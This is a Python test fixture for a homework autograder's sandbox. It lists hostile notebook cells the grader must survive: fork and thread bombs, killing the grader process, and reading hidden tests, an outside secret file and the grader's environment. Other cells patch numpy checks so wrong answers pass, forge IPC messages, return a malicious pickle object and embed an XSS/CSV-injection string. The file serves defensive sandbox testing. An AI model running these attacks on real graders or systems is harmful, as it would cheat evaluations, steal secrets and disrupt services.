"""Submissions that attack, break or exhaust the grader: each is the right solution of the demo set and one more cell.

`points` is the score out of 8 that the submission must get. Each attack would have an effect without the sandbox.
"""

import contextlib
from pathlib import Path

# name: (points, code of the last cell). SECRET is a file outside, ROOT the folder of this repository, PARENT the
# grader's process, PORT a port at which somebody listens: the test puts them into the code.
HOSTILE = {
    # --- the list of what other graders failed at
    "endless loop in a function": (5, "def accuracy(scores, labels):\n    while True:\n        pass\n"),
    "endless loop in a cell": (8, "while True:\n    pass\n"),
    "crash inside a function": (5, "def accuracy(scores, labels):\n    return unknown_name\n"),
    "wrong shape": (6, "_encode = encode\ndef encode(labels, classes):\n    return _encode(labels, classes).ravel()\n"),
    "syntax error": (8, "def encode(:\n"),
    "exit in a cell": (8, "import os\nos._exit(1)\n"),
    "exit in a function": (5, "import os\ndef accuracy(scores, labels):\n    os._exit(0)\n"),
    "sys.exit in a cell": (8, "import sys\nsys.exit(0)\n"),
    "memory": (8, "hog = []\nwhile True:\n    hog.append(np.ones(20_000_000))\n"),
    "patched np.allclose": (
        6,
        "import nnkit.homework.expect\nfor f in ('allclose', 'isclose', 'array_equal'):\n"
        "    setattr(np, f, lambda *a, **k: True)\nnnkit.homework.expect.close = lambda *a, **k: None\n"
        "def encode(labels, classes):\n    return np.zeros((len(labels), classes))\n",
    ),
    "read the tests": (
        8,
        "import glob, os\nfound = []\nfor folder, _, files in os.walk(ROOT):\n    for name in files:\n"
        "        if name == 'hidden.py':\n            found.append(open(os.path.join(folder, name)).read())\n"
        "found.append(open(SECRET).read())\nhomework.begin = print\nraise KeyError(str(found))\n",
    ),
    "list the home folder": (8, "import os\nraise KeyError(os.listdir(os.path.expanduser('~root')))\n"),
    "write outside": (8, "open(SECRET, 'w').write('overwritten')\n"),
    "signal the grader": (8, "import os, signal\nfor p in (os.getppid(), PARENT):\n    os.kill(p, signal.SIGKILL)\n"),
    "connect": (8, "import socket\nsocket.create_connection(('127.0.0.1', PORT), 1).sendall(b'answers')\n"),
    "a large file": (8, "with open('big', 'wb') as f:\n    for _ in range(200):\n        f.write(b'x' * 2**20)\n"),
    "endless recursion": (8, "def f(x):\n    return f(x) + 1\nf(0)\n"),
    "memory fault": (8, "import ctypes\nctypes.string_at(1)\n"),
    "memory fault in a function": (5, "import ctypes\ndef accuracy(scores, labels):\n    ctypes.string_at(1)\n"),
    "a loop that catches everything": (
        5,
        "def accuracy(scores, labels):\n    while True:\n        try:\n            while True:\n                pass\n"
        "        except BaseException:\n            pass\n",
    ),
    "warnings": (8, "import warnings\nwarnings.warn('hello')\nnp.exp(np.array(1000.0))\nnp.log(np.zeros(2))\n"),
    "a duplicated cell": (8, "homework.check('encode')\nhomework.check('encode')\n"),
    # --- ten of our own
    "fork bomb": (8, "import os\nfor _ in range(50):\n    os.fork()\n"),
    "fork bomb by another program": (8, "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\n"),
    "thread bomb": (
        8,
        "import threading, time\nfor _ in range(2000):\n"
        "    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n",
    ),
    "output flood": (8, "while True:\n    print('x' * 100_000)\n"),
    "many files": (
        8,
        "for i in range(40):\n    with open(f'f{i}', 'wb') as f:\n        f.write(b'x' * 4 * 2**20)\n"
        "import time\ntime.sleep(30)\n",
    ),
    "walked frames": (
        6,
        "import sys, gc\ndef encode(labels, classes):\n    frame = sys._getframe()\n    while frame:\n"
        "        for value in frame.f_locals.values():\n            if 'many_labels' in dir(value):\n"
        "                return 'found'\n        frame = frame.f_back\n    for thing in gc.get_objects():\n"
        "        if type(thing).__name__ == 'function' and thing.__name__ == 'many_labels':\n"
        "            raise KeyError('the hidden test: ' + thing.__doc__)\n    return np.zeros((1, 1))\n",
    ),
    "the grader's memory": (8, "raise KeyError(open('/proc/%d/environ' % PARENT, 'rb').read())\n"),
    "forged messages": (
        0,
        "import os, json, struct\ntext = json.dumps({'ready': True}).encode()\nfor _ in range(200):\n"
        "    for n in range(3, 40):\n        try:\n            os.write(n, struct.pack('<I', len(text)) + text)\n"
        "        except OSError:\n            pass\n",
    ),
    "a forged fault": (
        8,
        "import os, json, struct\ntext = json.dumps({'fault': 'stop the batch'}).encode()\n"
        "for n in range(3, 40):\n    try:\n        os.write(n, struct.pack('<I', len(text)) + text)\n"
        "    except OSError:\n        pass\n",
    ),
    "errors that are no exceptions": (
        5,
        "class Odd(BaseException):\n    def __str__(self):\n        raise self\n"
        "def accuracy(scores, labels):\n    raise Odd\nraise Odd\n",
    ),
    "half a character": (
        6,
        "def encode(labels, classes):\n    raise ValueError(chr(0xD800))\nraise KeyError(chr(0xD801))\n",
    ),
    "an endless message": (
        8,
        "import os, struct\nfor n in range(3, 40):\n    try:\n"
        "        os.write(n, struct.pack('<I', 2**32 - 1) + b'x')\n    except OSError:\n        pass\n",
    ),
    "an answer that is too large": (6, "def encode(labels, classes):\n    return np.zeros((3000, 3000))\n"),
    "an answer of objects": (
        6,
        "class Evil:\n    def __reduce__(self):\n        return (print, ('pickled',))\n"
        "    def __eq__(self, other):\n        return True\ndef encode(labels, classes):\n    return Evil()\n",
    ),
    "signals switched off": (
        5,
        "import signal\ndef accuracy(scores, labels):\n    for n in (signal.SIGPROF, signal.SIGALRM, signal.SIGXCPU):\n"
        "        signal.signal(n, signal.SIG_IGN)\n    while True:\n        pass\n",
    ),
    "a session of its own": (8, "import os\nos.setsid()\nos.fork()\n"),
    "text for spreadsheets and pages": (
        6,
        "def encode(labels, classes):\n    raise ValueError('<script>alert(1)</script> =cmd|calc')\n",
    ),
    "asleep for ever": (8, "import time\ntime.sleep(10**6)\n"),
    "the clock stopped": (8, "import time\ntime.sleep = time.time = time.monotonic = lambda *a: 0.0\n"),
}


def code(name, **names):
    """The last cell of a submission, with the names that it uses."""
    return "".join(f"{key} = {value!r}\n" for key, value in names.items()) + HOSTILE[name][1]


def running(folder):
    """The processes (Linux) of graders whose temporary folder this is, students' processes included."""
    found = set()
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if f"TMPDIR={folder}\0".encode() in (process / "environ").read_bytes():
                found.add(int(process.name))
    return found
